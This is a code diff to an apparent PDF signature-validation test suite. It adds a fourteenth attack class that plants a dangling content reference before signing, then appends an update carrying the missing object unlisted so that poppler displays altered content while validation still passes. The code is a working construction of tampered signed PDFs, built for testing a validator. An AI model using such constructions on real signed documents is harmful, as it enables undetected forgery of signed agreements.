@@ -11,7 +11,8 @@
  * hidden in the sealed input's bytes, chained in after sealing; 10 an object whose header names
  * another generation than its xref entry (poppler rebuilds the file); 11 a compressed entry
  * with the wrong index in its object stream; 12 an update's table numbered from 1 with a free
- * first entry (the "numbered from 1" quirk); 13 an xref stream entry of a reserved type. Class 6
+ * first entry (the "numbered from 1" quirk); 13 an xref stream entry of a reserved type; 14 an
+ * object an update defines without listing it. Class 6
  * (resources) is in resources.ts. Controls (class 0) are changes a careful receiver accepts.
  */
 import { PDFDocument, StandardFonts, rgb } from 'pdf-lib';
@@ -522,6 +523,23 @@ export async function buildAttacks(seal: SigningSeal, kinds: readonly BaseKind[]
       const dict = `/Type /XRef /Size ${n + 1} /W [1 4 2] /Index [${content.num} 1 ${n} 1] /Root ${serialize(s.trailer.get('Root') as PdfValue)} /Prev ${s.latestRevision.xrefOffset}`;
       parts.push(Buffer.concat([Buffer.from(`${n} 0 obj\n`, 'latin1'), Buffer.from(streamBody(dict, new Uint8Array(rows))), Buffer.from(`\nendobj\nstartxref\n${at}\n%%EOF\n`, 'latin1')]));
       add(13, 'xref-stream-reserved-entry-type', 'an update\'s xref stream gives the content stream an entry of type 3; an altered content stream follows unlisted', sealed, new Uint8Array(Buffer.concat(parts)));
+    }
+
+    // --- Class 14: objects an update carries without listing them. The sealed page draws a
+    // content stream that does not exist (class 3's trap, here sealed by a signer without our
+    // gate): poppler, not finding it, rebuilds the file by scanning on every opening. After
+    // sealing, an update lists nothing and carries the missing object unlisted: poppler draws
+    // it. No xref entry changed: VALID before the scan of each update's own bytes.
+    {
+      const u = targets(base);
+      const trap = u.size + 40;
+      const dangling = appendRaw(base, { kind: xk, objects: [{ num: u.pageRef.num, body: pageWith(u, 'Contents', refArray(u.contents, new PdfRef(trap, 0))) }] }).bytes;
+      const sealedDangling = await signPdf(dangling, seal, { field: 'Seal1' });
+      add(14, 'unlisted-object-in-update', 'the signed page draws a missing content stream; an update lists nothing and carries it unlisted', sealedDangling,
+        appendRaw(sealedDangling, { objects: [{ num: trap, body: streamBody('', BLACK_BOX), hidden: true }] }).bytes);
+      // The same carried by an update that lists another, harmless object (document info).
+      add(14, 'unlisted-object-beside-info-update', 'as above, in an update that also rewrites the document info', sealedDangling,
+        appendRaw(sealedDangling, { objects: [{ num: trap, body: streamBody('', BLACK_BOX), hidden: true }, { num: u.size + 41, body: '<< /Title (Notice) >>' }], trailer: { Info: new PdfRef(u.size + 41, 0) } }).bytes);
     }
 
     // --- Controls: what a careful receiver accepts after an approval seal.
